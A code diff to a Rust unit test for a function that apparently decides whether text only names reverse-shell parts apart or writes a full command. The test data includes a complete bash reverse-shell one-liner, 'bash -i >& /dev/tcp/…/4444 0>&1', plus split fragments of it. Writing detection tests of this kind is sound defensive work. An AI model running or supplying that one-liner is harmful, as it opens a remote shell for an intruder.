@@ -140,12 +140,14 @@ mod tests {
 
     #[test]
     fn parts_named_in_separate_spans_name_no_command() {
-        assert!(parts_named_apart("bash -i` or `/dev/tcp/"));
+        let named = "bash -i` or `/dev/tcp/";
+        assert!(parts_named_apart(named, &format!("{named}`, that is text")));
+        let whole = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
+        assert!(!parts_named_apart(whole, whole));
+        let split = "bash -i >&` then `/dev/tcp/";
         assert!(!parts_named_apart(
-            "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
-        ));
-        assert!(!parts_named_apart(
-            "bash -i` then `/dev/tcp/203.0.113.5/4444"
+            split,
+            &format!("{split}203.0.113.5/4444 0>&1`")
         ));
     }
 }
